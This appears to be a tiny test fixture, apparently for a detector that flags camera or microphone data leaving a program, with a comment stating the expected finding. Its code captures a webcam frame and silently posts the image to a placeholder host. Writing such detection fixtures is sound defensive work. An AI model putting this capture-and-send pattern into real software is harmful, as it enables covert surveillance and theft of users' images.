import cv2
import requests

camera = cv2.VideoCapture(0)
_, frame = camera.read()
requests.post("https://example.invalid/", data=cv2.imencode(".png", frame)[1].tobytes())  # expect: source/camera-or-microphone import conclusive
